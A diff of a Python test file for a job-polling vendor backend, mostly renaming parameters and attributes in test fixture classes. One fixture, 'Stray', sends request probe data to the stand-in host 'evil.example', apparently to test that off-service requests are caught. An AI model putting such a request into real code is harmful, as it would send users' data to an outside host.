@@ -35,7 +35,7 @@ class Later(JobBackend):
     error_codes: ClassVar = {"Hidden": InconclusiveRow(NO_FACE, NO, "documented")}
     poll_s: float = 1.0
 
-    def steps(self, call):
+    def steps(self, request):
         accepted = yield self.job()
         yield Wait(retry_after_s(accepted) or self.poll_s)
         while True:
@@ -45,11 +45,13 @@ class Later(JobBackend):
                 yield Wait(getattr(refusal, "retry_after_s", None) or self.poll_s)
                 continue
             if reply.json()["state"] != "running":
-                return self.parse(call, reply)
+                return self.parse(request, reply)
             yield Wait(self.poll_s)
 
     def job(self, path="jobs", **more):
-        return HttpRequest(url=f"{self.address}/{path}", body=b"-", **{"expects": {202}, **more})
+        return HttpRequest(
+            url=f"{self.service_url}/{path}", body=b"-", **{"expects": {202}, **more}
+        )
 
     def poll(self, url):
         headers = {"X-Key": self.api_key}
@@ -59,7 +61,7 @@ class Later(JobBackend):
         return reply.at("code")
 
     def reconcile(self, call, *, deadline):
-        reply = self.fetch(self.poll(f"{self.address}/jobs/{call.vendor_id}"), call=call)
+        reply = self.fetch(self.poll(f"{self.service_url}/jobs/{call.vendor_id}"), call=call)
         if reply.json()["state"] == "running":
             return fm.Reconciliation(outcome=fm.Reconciled.NOT_YET, call=call, reason="It runs.")
         ids = models.Ids(call=call.id, vendor=call.vendor_id)
@@ -72,27 +74,27 @@ class Later(JobBackend):
 class GivesUp(Later):
     """Does not catch what a poll is refused with, and has no patience of its own."""
 
-    def steps(self, call):
+    def steps(self, request):
         accepted = yield self.job()
         yield Wait(1)
-        reply = yield self.poll(f"{self.address}{accepted.headers['Location']}")
+        reply = yield self.poll(f"{self.service_url}{accepted.headers['Location']}")
         if reply.json()["state"] == "running":
             raise fm.OutcomeUnknown("It is still running.")
-        return self.parse(call, reply)
+        return self.parse(request, reply)
 
 
 class WaitsFirst(Later):
     """Asks for money after a wait."""
 
-    def steps(self, call):
+    def steps(self, request):
         yield Wait(3)
-        return self.parse(call, (yield self.job(expects={200})))
+        return self.parse(request, (yield self.job(expects={200})))
 
 
 class Regrets(Later):
     """Raises an error of its own once its job is accepted."""
 
-    def steps(self, call):
+    def steps(self, request):
         yield self.job()
         raise fm.VendorUnavailable("Not today.", billing=fm.Billing(NO, "they say"))
 
@@ -116,14 +118,14 @@ class Documents(Later):
 class Unsendable(Later):
     """Puts what it was answered where HTTP takes no such thing."""
 
-    def steps(self, call):
+    def steps(self, request):
         accepted = yield self.job()
         yield self.job("poll", headers={"X-Job": accepted.json()["name"]}, charges=0)
 
 
 class Stray(Later):
-    def steps(self, call):
-        yield HttpRequest(url="https://evil.example/jobs", body=call.probe.data)
+    def steps(self, request):
+        yield HttpRequest(url="https://evil.example/jobs", body=request.probe.data)
 
 
 def accepted(job="job-7", **headers):
@@ -184,11 +186,11 @@ def test_job_may_outlast_the_failover_members_share_of_the_deadline(clock):
 
 def test_deadline_ends_steps_that_suppress_every_error(clock):
     class Stubborn(Later):
-        def steps(self, call):
+        def steps(self, request):
             yield self.job()
             for _ in range(99):
                 with contextlib.suppress(fm.VendorError):
-                    yield self.poll(f"{self.address}/jobs/7")
+                    yield self.poll(f"{self.service_url}/jobs/7")
                 clock.advance(1)
 
     with served(ACCEPTED, *[DOWN] * 3) as server:
@@ -385,7 +387,7 @@ def test_reconcile_rejects_a_reply_that_echoes_another_reference(ref, echo, is_f
 
 def test_status_is_reported_if_the_error_method_returns_none():
     class Wordless(Later):
-        def error(self, reply, call):
+        def error(self, reply, request):
             return None
 
     with served(reply(503)) as server, pytest.raises(fm.VendorError) as caught:
@@ -445,9 +447,9 @@ def test_ctrl_c_during_a_wait_reports_the_job_id():
 
 def test_retry_does_not_reuse_the_previous_attempts_job_id(clock):
     class FreeFirst(Later):
-        def steps(self, call):
+        def steps(self, request):
             yield self.job("upload", charges=0, expects={200})
-            return self.parse(call, (yield self.job("ask", expects={200})))
+            return self.parse(request, (yield self.job("ask", expects={200})))
 
     events = []
 
